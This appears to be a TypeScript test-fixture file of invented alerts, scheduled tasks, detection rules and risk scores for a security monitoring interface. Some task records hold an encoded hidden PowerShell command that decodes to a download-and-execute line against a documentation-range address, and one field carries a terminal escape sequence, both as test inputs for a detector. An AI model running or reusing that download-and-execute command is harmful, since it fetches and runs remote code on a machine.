/**
 * Invented data of plausible size and shape: an incident on one workstation, a few quiet alerts around it.
 * Names are from documentation ranges; nothing here was ever logged.
 */
import { newCounters } from "../../src/base/counters.ts";
import { parseTimestamp } from "../../src/base/time.ts";
import type { Us } from "../../src/base/time.ts";
import type {
  AlertDetail,
  AlertRow,
  AttackList,
  AttackTechnique,
  DrilldownItem,
  EntityDetail,
  PendingRow,
  ResultDetail,
  RiskList,
  RiskRow,
  RuleDetail,
  RuleList,
  RuleRow,
  Snapshot,
  SourceRow,
  StepDetail,
  TaskDetail,
  TaskList,
  TaskRow,
} from "../../src/screen/store/snapshot.ts";
import type { PendingDetail } from "../../src/screen/store/pending-detail.ts";
import { FIRST_SORTINGS } from "../../src/screen/store/sorting.ts";
import type { TaskRecord } from "../../src/task/task.ts";

export function at(time: string): Us {
  return parseTimestamp(`2024-03-05T${time}Z`)!;
}

export const NOW = at("12:04:31.000");

export function alertRow(fields: Partial<AlertRow> & { id: string }): AlertRow {
  return {
    timeUs: NOW,
    severity: "medium",
    status: "open",
    certainty: "confirmed",
    revision: 1,
    rule: "Remote Scheduled Task Creation",
    host: "WKS-014",
    user: "CORP\\jdoe",
    ...fields,
  };
}

export const ALERTS: readonly AlertRow[] = [
  alertRow({
    id: "a1",
    timeUs: at("12:04:28.311"),
    severity: "critical",
    rule: "Scheduled Task Runs a Hidden Shell",
  }),
  alertRow({
    id: "a2",
    timeUs: at("12:04:11.000"),
    severity: "high",
    certainty: "provisional",
    rule: "LSASS Handle from an Unsigned Image",
    host: "WKS-022",
    user: "CORP\\svc_bk",
  }),
  alertRow({
    id: "a3",
    timeUs: at("12:03:55.000"),
    severity: "high",
    revision: 2,
    host: "DC01",
    user: "CORP\\adm_k",
  }),
  alertRow({
    id: "a4",
    timeUs: at("12:02:40.000"),
    status: "acknowledged",
    rule: "Certutil with a URL Argument",
    host: "WKS-101",
    user: "CORP\\mlee",
  }),
  alertRow({
    id: "a5",
    timeUs: at("12:01:07.000"),
    status: "acknowledged",
    rule: "Registry Run Key by a Script Host",
  }),
  alertRow({
    id: "a6",
    timeUs: at("11:58:31.000"),
    severity: "low",
    status: "closed",
    rule: "Local Group Enumeration",
    host: "SRV-07",
    user: "CORP\\ops",
  }),
  alertRow({
    id: "a7",
    timeUs: at("11:57:02.000"),
    severity: "low",
    certainty: "withdrawn",
    rule: "Task Query Burst",
    host: "SRV-07",
    user: "",
  }),
];

function pendingRow(fields: Partial<PendingRow> & { id: string }): PendingRow {
  return {
    rule: "Office Child Drops a Task",
    severity: "high",
    host: "WKS-014",
    state: "started",
    seen: 2,
    steps: 3,
    startUs: at("12:02:50.000"),
    maxspanUs: 120_000_000,
    deadlineUs: at("12:04:50.000"),
    evidence: ["winword.exe started cmd.exe", "cmd.exe started schtasks.exe"],
    ...fields,
  };
}

export const PENDING: readonly PendingRow[] = [
  pendingRow({ id: "p1" }),
  pendingRow({
    id: "p2",
    rule: "WMI Execution then New Service",
    host: "DC01",
    seen: 1,
    steps: 2,
    startUs: at("12:02:00.000"),
    maxspanUs: 300_000_000,
    deadlineUs: at("12:07:00.000"),
    evidence: ["wmiprvse.exe started cmd.exe"],
  }),
  pendingRow({
    id: "p3",
    rule: "Remote Scheduled Task Creation",
    host: "SRV-07",
    state: "early",
    seen: 1,
    steps: 2,
    startUs: at("12:04:20.000"),
    maxspanUs: 60_000_000,
    deadlineUs: at("12:05:20.000"),
    evidence: ["registry: TaskCache\\Tasks\\{…}\\Actions"],
  }),
  pendingRow({
    id: "p4",
    rule: "Two Events Any Time Apart",
    host: "WKS-101",
    seen: 1,
    steps: 2,
    maxspanUs: undefined,
    deadlineUs: undefined,
  }),
];

export const TASKS: readonly TaskRow[] = [
  {
    id: "t1",
    timeUs: at("12:04:27.000"),
    host: "WKS-014",
    name: "\\Updater",
    command:
      "powershell.exe -w hidden -nop -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwAyADAAMwAuADAALgAxADEAMwAuADkALwBhAC4AcABzADEAKQA=",
    decoded: "IEX (iwr http://203.0.113.9/a.ps1)",
    detail: "created, task event 4698, runs as SYSTEM",
    unknown: undefined,
    change: "created",
    asked: false,
    user: "CORP\\jdoe",
    origin: {
      kind: "remote",
      host: "WKS-007.corp.example",
      address: "10.0.0.7",
      from: "logon 0xabc (4624)",
      inferred: false,
    },
    hints: ["encoded-powershell", "hidden-window", "network-download"],
    guid: "{6F3C1A52-0000-4000-8000-000000000001}",
  },
  {
    id: "t2",
    timeUs: at("12:01:07.000"),
    host: "WKS-014",
    name: "\\Microsoft\\Windows\\UpdateOrchestrator\\OneDriveSync",
    command: "C:\\Users\\jdoe\\AppData\\Roaming\\od\\od.exe -s",
    decoded: "",
    detail: "created, registry value, at logon",
    unknown: undefined,
    change: "created",
    asked: true,
    user: "",
    origin: { kind: "local", from: "command line", inferred: true },
    hints: ["user-writable-path"],
    guid: "",
  },
  {
    id: "t3",
    timeUs: at("11:40:19.000"),
    host: "SRV-07",
    name: "\\Backup",
    command: "",
    decoded: "",
    detail: "changed",
    unknown:
      "the log says that the value was set, not what to; event 4698 would tell",
    change: "updated",
    asked: false,
    user: "",
    origin: undefined,
    hints: [],
    guid: "{6F3C1A52-0000-4000-8000-000000000003}",
  },
];

export const SOURCES: readonly SourceRow[] = ["dc01", "wks", "srv"].map(
  (name) => ({
    path: `/var/log/win/${name}.ndjson`,
    state: "following",
    shape: "wl-raw",
    hosts: [name],
    lines: 61_000,
    events: 60_998,
    unparsed: 0,
    behindBytes: 0,
    lastEventUs: NOW,
    note: undefined,
  }),
);

export interface SnapshotParts {
  readonly alerts?: readonly AlertRow[];
  readonly pending?: readonly PendingRow[];
  readonly tasks?: readonly TaskRow[];
  readonly filter?: string;
  readonly total?: number;
}

/** A snapshot around the given lists; anything else can be laid over it. */
export function snapshot(
  {
    alerts = ALERTS,
    pending = PENDING,
    tasks = TASKS,
    filter = "",
    total = alerts.length,
  }: SnapshotParts = {},
  over: Partial<Snapshot> = {},
): Snapshot {
  const withStatus = (status: AlertRow["status"]): number =>
    alerts.filter((row) => row.status === status).length;
  return {
    version: 1,
    mode: "live",
    state: "live",
    streamUs: NOW,
    eventsPerSecond: 1_284,
    sparkline: [3, 5, 8, 13, 9, 7, 6, 9, 12, 15, 14, 9, 6, 4, 3, 5].map(
      (n) => n * 100,
    ),
    lagUs: 800_000,
    behindBytes: 0,
    counters: { ...newCounters(), events: 184_112, lines: 184_116 },
    rules: { loaded: 412, refused: 0 },
    ruleList: undefined,
    risk: undefined,
    health: undefined,
    ring: { capacity: 500_000, first: 0, next: 184_112 },
    events: undefined,
    sources: SOURCES,
    pending: {
      total: pending.length,
      early: pending.filter((row) => row.state === "early").length,
      rows: pending,
    },
    pendingChanges: [],
    waiting: 0,
    alerts: {
      total,
      newest: alerts[0],
      open: withStatus("open"),
      acknowledged: withStatus("acknowledged"),
      critical: alerts.filter(({ severity }) => severity === "critical").length,
      closed: withStatus("closed"),
      matching: alerts.length,
      from: 0,
      rows: alerts,
      filter,
      filterError: undefined,
      sort: FIRST_SORTINGS.alerts,
    },
    tasks: { total: tasks.length, rows: tasks, version: 1 },
    taskList: undefined,
    replay: undefined,
    messages: [],
    ...over,
  };
}

/** The list of all tasks. */
export function taskList(
  rows: readonly TaskRow[] = TASKS,
  over: Partial<TaskList> = {},
): TaskList {
  return {
    total: rows.length,
    remote: rows.filter(({ origin }) => origin?.kind === "remote").length,
    sort: FIRST_SORTINGS["all-tasks"],
    matching: rows.length,
    from: 0,
    rows,
    filter: "",
    filterError: undefined,
    ...over,
  };
}

/** The page of the first task. */
export function taskDetail(over: Partial<TaskDetail> = {}): TaskDetail {
  return {
    id: "t1",
    version: 1,
    row: TASKS[0]!,
    index: 0,
    total: 3,
    records: [STORIED_TASK],
    ...over,
  };
}

/** Alerts enough to scroll through, newest first, ten seconds apart. */
export function manyAlerts(number: number): AlertRow[] {
  return Array.from({ length: number }, (_, i) =>
    alertRow({
      id: `m${i}`,
      timeUs: NOW - i * 10_000_000,
      severity: (["low", "medium", "high"] as const)[i % 3]!,
      rule: `Rule number ${i}`,
      status: i % 4 === 3 ? "closed" : "open",
    }),
  );
}

/** The flagship case: the network event happened first and was logged last. */
export const STEPS: readonly StepDetail[] = [
  {
    step: 1,
    filter:
      'network where process.name : "svchost.exe" and network.direction == "ingress"',
    event: {
      timeUs: at("12:04:07.091"),
      writtenUs: at("12:04:29.300"),
      host: "WKS-014",
      channel: "Microsoft-Windows-Sysmon/Operational",
      code: "3",
      shape: "wl-raw",
      summary: "svchost.exe 10.0.0.7:52110 to 10.0.0.14:49667 tcp, incoming",
      fields: {
        "process.name": "svchost.exe",
        "source.ip": "10.0.0.7",
        "source.port": "52110",
        "destination.port": "49667",
      },
      file: "/var/log/win/wks.ndjson",
      line: 60_213,
      offset: 88_121_920,
      length: 1_622,
    },
  },
  {
    step: 2,
    filter:
      'registry where registry.path : "*TaskCache\\\\Tasks\\\\*\\\\Actions"',
    event: {
      timeUs: at("12:04:28.311"),
      writtenUs: at("12:04:28.311"),
      host: "WKS-014",
      channel: "Microsoft-Windows-Sysmon/Operational",
      code: "13",
      shape: "wl-raw",
      summary:
        "svchost.exe set HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tasks\\{6F3C1A52-0000-4000-8000-000000000001}\\Actions",
      fields: {
        "registry.path":
          "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tasks\\{6F3C1A52-0000-4000-8000-000000000001}\\Actions",
        "process.entity_id": "{f66f7c10-0000-0000-0000-000000000001}",
      },
      file: "/var/log/win/wks.ndjson",
      line: 60_201,
      offset: 88_101_331,
      length: 1_204,
    },
  },
];

export const TASK_RECORD: TaskRecord = {
  id: "WKS-014 \\Updater",
  hostId: "wks-014",
  hostName: "WKS-014",
  guid: "{6F3C1A52-0000-4000-8000-000000000001}",
  path: "\\Updater",
  timeUs: at("12:04:28.400"),
  change: "created",
  user: "CORP\\jdoe",
  definition: {
    status: "ok",
    source: "xml-event",
    problems: [
      {
        code: "placeholder",
        level: "note",
        message: "the author is a placeholder: $(@%systemroot%\\x.dll,-1)",
      },
    ],
    actions: [
      {
        type: "exec",
        id: null,
        command: "powershell.exe",
        arguments: "-w hidden -nop -enc SQBFAFgAIAAoAGkAdwByACA…",
        workingDirectory: "C:\\Windows\\Temp",
      },
    ],
    context: "Author",
    runAs: "S-1-5-18",
    runLevel: "HighestAvailable",
    triggers: ["every 5 minutes from 2024-03-05 12:05"],
    hidden: true,
  },
  hints: [
    {
      hint: "encoded-powershell",
      reason: "PowerShell with an encoded command",
      matched: "-enc SQBFAFgA",
    },
  ],
  layers: [
    {
      kind: "powershell-encoded",
      text: "$u = 'http://203.0.113.9/a.ps1'\r\nIEX (iwr $u -UseBasicParsing)",
    },
  ],
  from: "task event 4698",
  unknown: undefined,
};

const LOG = "/var/log/win/wks.ndjson";

/** A task of which everything is told. */
export const STORIED_TASK: TaskRecord = {
  ...TASK_RECORD,
  definition: {
    ...TASK_RECORD.definition!,
    author: "CORP\\jdoe",
    registration: {
      date: "2024-03-05T12:04:27",
      source: null,
      version: null,
      documentation: null,
      securityDescriptor: null,
    },
    principals: [
      {
        id: "Author",
        userId: "S-1-5-18",
        groupId: null,
        logonType: "S4U",
        runLevel: "HighestAvailable",
        privileges: ["SeDebugPrivilege"],
      },
    ],
    settings: { enabled: false, hidden: true, deleteExpiredTaskAfter: "PT0S" },
  },
  hints: [
    ...TASK_RECORD.hints,
    {
      hint: "short-lived",
      reason: "was created and removed at once",
      matched: "0.2 s",
    },
    { hint: "sd-removed", reason: "its descriptor was deleted", matched: "" },
  ],
  unwrapped: [
    {
      layers: [
        {
          kind: "powershell-encoded",
          text: "IEX (iwr http://203.0.113.9/a.ps1)",
        },
      ],
      problem: "depth-limit",
    },
  ],
  origin: {
    kind: "remote",
    host: "WKS-007",
    address: "10.0.0.7",
    logonId: "0xabc",
    logonType: "Network",
    from: "logon 0xabc (4624)",
    inferred: false,
    at: { file: LOG, line: 90 },
  },
  createdUs: at("12:04:28.400"),
  deletedUs: at("12:04:28.600"),
  differences: [{ what: "runAs", before: "CORP\\jdoe", after: "S-1-5-18" }],
  story: [
    {
      timeUs: at("12:04:28.400"),
      what: "created",
      text: "created",
      from: ["registry values", "task event 4698"],
      at: [{ file: LOG, line: 100 }, null],
    },
    {
      timeUs: at("12:04:28.600"),
      what: "deleted",
      text: "deleted",
      from: ["task event 4699"],
      at: [{ file: LOG, line: 120 }],
    },
  ],
  parts: [
    {
      part: "name",
      from: "its own events",
      inferred: false,
      at: { file: LOG, line: 99 },
    },
    { part: "user", from: "command line", inferred: true },
  ],
};

export function detail(over: Partial<AlertDetail> = {}): AlertDetail {
  const row = over.row ?? ALERTS[0]!;
  return {
    id: row.id,
    row,
    index: 0,
    total: ALERTS.length,
    ruleId: "954ee7c8-5437-49ae-b2d6-2960883898e9",
    ruleFile: "rules/windows/lateral_movement_scheduled_task.toml",
    description:
      "A scheduled task was created from another machine: the Task Scheduler service took a connection and wrote a task within a minute.",
    query:
      'sequence by host.id, process.entity_id with maxspan=1m\n  [network where process.name : "svchost.exe" and source.port >= 49152]\n  [registry where registry.path : "*TaskCache*Actions"]',
    riskScore: 47,
    threats: [
      {
        framework: "MITRE ATT&CK",
        tactic: {
          id: "TA0008",
          name: "Lateral Movement",
          reference: undefined,
        },
        techniques: [
          {
            id: "T1053",
            name: "Scheduled Task/Job",
            reference: undefined,
            subtechniques: [
              { id: "T1053.005", name: "Scheduled Task", reference: undefined },
            ],
          },
        ],
      },
    ],
    guide:
      "## Triage\n\n- Decode the task's actions.\n- Find out who connected.\n\n## Response\n\nIsolate the host if the action is not known.",
    references: ["https://attack.mitre.org/techniques/T1053/005/"],
    falsePositives: ["Software deployment that creates tasks remotely"],
    key: {
      "host.id": "wks-014",
      "process.entity_id": "{f66f7c10-0000-0000-0000-000000000001}",
    },
    maxspanUs: 60_000_000,
    steps: STEPS,
    tasks: [TASK_RECORD],
    reason: undefined,
    drilldowns: [],
    ...over,
  };
}

export function ruleRow(fields: Partial<RuleRow> & { id: string }): RuleRow {
  return {
    name: "Remote Scheduled Task Creation",
    severity: "medium",
    kind: "sequence",
    fired: 0,
    pending: 0,
    state: "ready",
    why: "",
    ...fields,
  };
}

export const RULES: readonly RuleRow[] = [
  ruleRow({ id: "r1", fired: 2, pending: 1 }),
  ruleRow({
    id: "r2",
    name: "Image Loaded with an Invalid Signature",
    severity: "high",
    kind: "event",
    state: "blind",
    why: "nxlog never has dll.Ext.relative_file_creation_time",
  }),
  ruleRow({
    id: "r3",
    name: "Last Logons",
    severity: "low",
    kind: "event",
    state: "off",
    why: "tail needs an end of input",
  }),
];

export function ruleList(
  rows: readonly RuleRow[] = RULES,
  over: Partial<RuleList> = {},
): RuleList {
  const counts = { ready: 0, part: 0, waiting: 0, blind: 0, off: 0 };
  for (const { state } of rows) counts[state]++;
  return {
    total: rows.length,
    counts,
    fired: rows.filter(({ fired }) => fired > 0).length,
    refused: 0,
    setAside: 0,
    sort: FIRST_SORTINGS.rules,
    matching: rows.length,
    from: 0,
    rows,
    filter: "",
    filterError: undefined,
    ...over,
  };
}

export function ruleDetail(over: Partial<RuleDetail> = {}): RuleDetail {
  return {
    id: "r1",
    row: RULES[0]!,
    index: 0,
    total: 3,
    ruleFile: "rules/task.toml",
    description: "A task is created from afar.",
    query: 'sequence by host.id\n  [process where\n  process.name : "a"]',
    riskScore: 47,
    threats: [],
    guide: "## Look\nat it.",
    references: [],
    falsePositives: ["Backups"],
    exclusions: [],
    endpointActions: [],
    steps: [
      {
        category: "process",
        events: 833,
        missing: false,
        reasons: [],
      },
      {
        category: "library",
        events: 391,
        missing: false,
        reasons: ["nxlog never has dll.Ext.relative_file_creation_time"],
      },
      {
        category: "file",
        events: 0,
        missing: false,
        reasons: [],
      },
      {
        category: "network",
        events: 9,
        missing: true,
        reasons: [],
      },
    ],
    unfilled: ["process.code_signature.trusted"],
    ...over,
  };
}

export function riskRow(fields: Partial<RiskRow> & { id: string }): RiskRow {
  return {
    type: "system",
    name: "wks-014.corp.example",
    names: ["wks-014.corp.example", "wks-014"],
    score24h: 126,
    score7d: 189,
    detections: 2,
    alerts: 3,
    repeats: 1,
    techniques: 4,
    tactics: 3,
    lastUs: at("12:04:28.311"),
    message: "schtasks.exe made a task on WKS-014 by jdoe",
    severity: "medium",
    isBroad: false,
    ...fields,
  };
}

export const ENTITIES: readonly RiskRow[] = [
  riskRow({ id: "system wks-014" }),
  riskRow({
    id: "user jdoe",
    type: "user",
    name: "jdoe",
    names: ["jdoe"],
    score24h: 63,
    score7d: 1_260,
    severity: undefined,
    isBroad: true,
  }),
  riskRow({
    id: "other c:\\x.exe",
    type: "other",
    name: "c:\\x.exe",
    names: ["c:\\x.exe"],
    score24h: 0,
    score7d: 20,
    severity: undefined,
  }),
];

export function riskList(
  rows: readonly RiskRow[] = ENTITIES,
  over: Partial<RiskList> = {},
): RiskList {
  return {
    total: rows.length,
    marked: 2,
    sort: FIRST_SORTINGS.risk,
    matching: rows.length,
    from: 0,
    rows,
    filter: "",
    filterError: undefined,
    ...over,
  };
}

export function entityDetail(over: Partial<EntityDetail> = {}): EntityDetail {
  return {
    id: "system wks-014",
    row: ENTITIES[0]!,
    index: 0,
    total: 3,
    rules: [
      {
        name: "Schtasks on a Remote System",
        severity: "high",
        score: 126,
        alerts: 2,
      },
      { name: "A Hidden Shell", severity: "high", score: 63, alerts: 1 },
    ],
    tactics: ["TA0002 Execution", "TA0003 Persistence"],
    techniques: ["T1053.005 Scheduled Task"],
    alerts: [
      {
        id: "a1",
        timeUs: at("12:04:28.311"),
        severity: "high",
        rule: "Schtasks on a Remote System",
        score: 63,
        message: "schtasks.exe made a task on WKS-014 by jdoe",
        isRecent: true,
        status: "open",
      },
      {
        id: "a2",
        timeUs: at("12:04:28.311") - 3 * 86_400_000_000,
        severity: "high",
        rule: "A Hidden Shell",
        score: 63,
        message: "A Hidden Shell",
        isRecent: false,
        status: undefined,
      },
    ],
    moreAlerts: 1,
    linked: [
      { id: "user jdoe", type: "user", name: "jdoe", alerts: 2 },
      { id: "other c:\\x.exe", type: "other", name: "c:\\x.exe", alerts: 1 },
    ],
    moreLinked: 0,
    ...over,
  };
}

/** A row with what its detection says of it. */
export const RESULT: ResultDetail = {
  type: "TTP",
  status: "production",
  sentence: "schtasks.exe made a task on WKS-014 by jdoe",
  columns: [
    { name: "process_name", values: ["schtasks.exe"] },
    { name: "dest", values: ["WKS-014"] },
    { name: "user", values: ["unknown"] },
    { name: "process", values: ["schtasks /create /s a", "b\x1b[2J"] },
    { name: "count", values: ["14"] },
  ],
  records: 14,
  sources: { "Sysmon 1": 7, "Security 4688": 7 },
  twice: 1,
  firstUs: at("12:04:07.091"),
  lastUs: at("12:04:28.311"),
  window: { startUs: at("11:50:00.000"), endUs: at("12:50:00.000") },
  riskObjects: [
    { field: "dest", type: "system", value: "WKS-014", score: 63 },
    { field: "user", type: "user", value: "jdoe", score: 40 },
  ],
  threatObjects: [
    { field: "process_name", type: "process_name", value: "schtasks.exe" },
  ],
  stories: ["Scheduled Tasks", "Lateral Movement"],
  assetType: "Endpoint",
  confidence: 90,
  impact: 70,
  dataSources: ["Sysmon EventID 1"],
  howToImplement: "Send the logs. ".repeat(40),
  cves: [],
  filters: ["my_filter"],
  differences: ["_time is the time of each event"],
};

export const DRILLDOWNS: readonly DrilldownItem[] = [
  {
    name: 'The results for "WKS-014"',
    kind: "results",
    filter: 'rule="Schtasks" row.dest="WKS-014"',
    search: "| tstats count | search dest=WKS-014",
  },
  {
    name: 'Risk events for "WKS-014"',
    kind: "risk",
    filter: 'entity="wks-014"',
    search: "| from datamodel Risk.All_Risk",
  },
  {
    name: "Logons of jdoe",
    kind: "other",
    filter: "",
    search: 'index=auth user="jdoe"',
  },
];

/** The flagship case before its second step has come. */
export function pendingDetail(
  over: Partial<PendingDetail> = {},
): PendingDetail {
  return {
    id: "p1",
    row: {
      ...PENDING[2]!,
      id: "p1",
      state: "started",
      startUs: at("12:04:07.091"),
      deadlineUs: at("12:05:07.091"),
    },
    index: 0,
    total: 4,
    kind: "sequence",
    ruleId: "ef358d6f",
    ruleFile: "bundled:remote-scheduled-task-creation.toml",
    query: "sequence by host.id, process.entity_id with maxspan=1m",
    key: [
      { field: "host.id", value: "wks-014" },
      { field: "process.entity_id", value: "{f66f7c10}" },
    ],
    steps: [
      {
        step: 1,
        state: "done",
        event: STEPS[0]!.event,
        category: "network",
        condition: [{ depth: 0, text: 'process.name : "svchost.exe"' }],
        join: [],
      },
      {
        step: 2,
        state: "awaited",
        event: undefined,
        category: "registry",
        condition: [
          { depth: 0, text: "any of" },
          { depth: 1, text: 'registry.path : "*Actions"' },
          { depth: 1, text: 'registry.path : "*Triggers"' },
        ],
        join: [{ field: "host.id", value: "wks-014" }],
      },
    ],
    until: undefined,
    latenessUs: 180_000_000,
    ageUs: 86_400_000_000,
    watermarkUs: at("12:01:31.000"),
    keys: 3,
    mostKeys: 100_000,
    end: undefined,
    others: [PENDING[2]!],
    moreOthers: 0,
    ...over,
  };
}

function technique(
  fields: Partial<AttackTechnique> & Pick<AttackTechnique, "id" | "name">,
): AttackTechnique {
  return {
    state: "covered",
    alerts: 0,
    open: 0,
    seeing: 1,
    waiting: 0,
    blind: 0,
    ...fields,
  };
}

export function attackList(): AttackList {
  return {
    tactics: [
      {
        id: "TA0001",
        name: "Initial Access",
        techniques: [technique({ id: "T1566", name: "Phishing", seeing: 12 })],
      },
      {
        id: "TA0002",
        name: "Execution",
        techniques: [
          technique({
            id: "T1053",
            name: "Scheduled Task/Job",
            state: "fired",
            severity: "critical",
            alerts: 3,
            open: 2,
            blind: 1,
          }),
          technique({ id: "T1059", name: "Command and Scripting Interpreter" }),
          technique({
            id: "T1204",
            name: "User Execution",
            state: "waiting",
            seeing: 0,
            waiting: 2,
          }),
        ],
      },
      {
        id: "TA0003",
        name: "Persistence",
        techniques: [
          technique({
            id: "T1543",
            name: "Create or Modify System Process",
            state: "blind",
            seeing: 0,
            blind: 4,
          }),
        ],
      },
    ],
    withoutTechnique: 3,
  };
}
